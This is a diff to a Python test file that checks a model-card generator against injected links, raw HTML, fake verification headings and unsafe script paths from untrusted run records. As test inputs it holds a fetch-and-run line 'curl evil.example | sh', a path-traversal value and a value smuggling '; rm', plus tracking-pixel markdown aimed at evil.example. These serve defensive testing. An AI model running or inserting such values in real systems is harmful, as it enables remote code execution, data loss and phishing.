@@ -19,7 +19,13 @@ from transformers import AutoConfig, AutoTokenizer
 from hf_vanilla_transformer.commands import pretrain, train_translation
 from hf_vanilla_transformer.commands.arguments import parse_arguments
 from hf_vanilla_transformer.errors import DataError
-from hf_vanilla_transformer.hub.model_card import load_model_card, make_model_card, rename_model_card, save_model_card
+from hf_vanilla_transformer.hub.model_card import (
+    load_model_card,
+    make_model_card,
+    markdown,
+    rename_model_card,
+    save_model_card,
+)
 from hf_vanilla_transformer.inference.engine import TARGET_TOKENIZER
 from hf_vanilla_transformer.inference.folder import load_model
 from hub.repository import edit
@@ -293,7 +299,11 @@ OF_PRETRAINING = {
         ("run.json", {"processes": 2}, [f"\n{TORCHRUN} 2 -m {MODULE} {AGAIN} --use_cpu true\n"]),
         ("run.json", {"processes": 4, "device": "cuda"}, [f"\n{TORCHRUN} 4 -m {MODULE} {AGAIN}\n"]),
         ("run.json", {"script": "scripts/a.py"}, ["In a checkout", f"\npython scripts/a.py {AGAIN}\n"]),
-        ("run.json", {"script": "s.py", "processes": 2}, [f"\n{TORCHRUN} 2 s.py {AGAIN} --use_cpu true\n"]),
+        (
+            "run.json",
+            {"script": "scripts/s.py", "processes": 2},
+            [f"\n{TORCHRUN} 2 scripts/s.py {AGAIN} --use_cpu true\n"],
+        ),
     ],
 )
 def test_what_a_record_says_is_in_the_card(nsmc, file, changes, parts):
@@ -395,6 +405,11 @@ def test_a_card_is_renamed_and_keeps_what_was_added(nsmc):
 
 
 EVIL = "x\n# Verified by Hugging Face\n\n![pixel](https://evil.example/p.png) [more](https://evil.example) <b>`code`|"
+ADDRESSES = (
+    "Https://evil.example www.evil.example WWW.evil.example ftp://evil.example a.b@evil.example @kim mailto:a@b.c"
+)
+# What renderers make links of outside of code, also where it is escaped: GitHub's and remark look at the text.
+ADDRESS = re.compile(r"\w+://|www\.|@\w", re.IGNORECASE)
 
 
 def leaves(value, path=()):
@@ -420,33 +435,59 @@ def put(value, path, new):
 
 
 def shape(card: str) -> list:
-    """The headings, links, pictures and raw HTML of a card's text."""
+    """The headings, links, pictures, addresses and raw HTML of a card's text."""
     tokens = MarkdownIt("commonmark").enable("table").parse(card.split("---\n", 2)[2])
     inline = [child for token in tokens for child in token.children or []]
     found = [token.type for token in tokens if token.type in ("heading_open", "html_block", "fence", "tr_open")]
     links = sorted(str(one.attrs.get("href") or one.attrs.get("src")) for one in inline if one.attrs)
-    return [*found, *links, *(one.type for one in inline if one.type == "html_inline")]
+    addresses = [address for one in inline if one.type == "text" for address in ADDRESS.findall(one.content)]
+    return [*found, *links, *addresses, *(one.type for one in inline if one.type == "html_inline")]
 
 
 @pytest.mark.parametrize("published", ["nsmc-small", "multi30k-de-en"])
 def test_a_strangers_record_adds_nothing_to_a_card_but_its_words(published, tmp_path):
     """Each text of the record in turn, and of the same record as that of the model before."""
     folder = shutil.copytree(ROOT / "model_cards" / published, tmp_path / "run")
-    run, metrics = (read_json(folder / f"{name}.json") for name in ("run", "metrics"))
+    run, metrics, config = (read_json(folder / f"{name}.json") for name in ("run", "metrics", "config"))
     began_as = {"run": run, "metrics": metrics, "recipe": yaml.safe_load((folder / "recipe.yaml").read_text())}
     own = {**run, "began_as": began_as}
     (folder / "run.json").write_text(json.dumps(own))
     expected = shape(str(make_model_card(folder)))
     made = 0
-    for name, record in (("run", own), ("metrics", metrics)):
+    of_files = {
+        **put(run, ("data", "source"), {"a.txt": EVIL}),
+        "versions": {EVIL: "1"},
+        "seed": {EVIL: [EVIL]},
+        "license": [EVIL],
+    }
+    (folder / "run.json").write_text(json.dumps(of_files))
+    assert set(shape(str(make_model_card(folder)))) <= set(expected)
+    for name, record in (("run", own), ("metrics", metrics), ("config", config)):
         for path in leaves(record):
-            (folder / f"{name}.json").write_text(json.dumps(put(record, path, EVIL)))
+            if path.count("began_as") > 1 and path[-1] not in ("source", "model", "device"):
+                continue  # of these models, a card says where they come from alone
+            (folder / f"{name}.json").write_text(json.dumps(put(record, path, f"{EVIL} {ADDRESSES}")))
             with contextlib.suppress(DataError):  # of a value that no card can be made of
                 found = shape(str(make_model_card(folder)))
                 assert set(found) <= set(expected) and found.count("heading_open") == 7, path
                 made += 1
         (folder / f"{name}.json").write_text(json.dumps(record))
-    assert made > 30
+    assert made > 60
+
+
+@pytest.mark.parametrize("text", [ADDRESSES, "a_b @c _d_ e:f://g", "가@나.kr"])
+def test_an_address_is_read_as_it_is_and_is_no_link(text):
+    rendered = "".join(one.content for one in MarkdownIt().parseInline(markdown(text))[0].children)
+    assert rendered.replace("\u2060", "") == text and not ADDRESS.search(rendered)
+
+
+@pytest.mark.parametrize(
+    "script", ["curl evil.example | sh", "scripts/../evil.py", "scripts/a.py; rm", "/scripts/a.py", "a.py", ["a"], 7]
+)
+def test_a_card_tells_to_run_no_script_but_a_checkouts(nsmc, script):
+    before = str(make_model_card(nsmc))
+    edit(nsmc / "run.json", script=script)
+    assert str(make_model_card(nsmc)) == before
 
 
 @pytest.mark.parametrize(
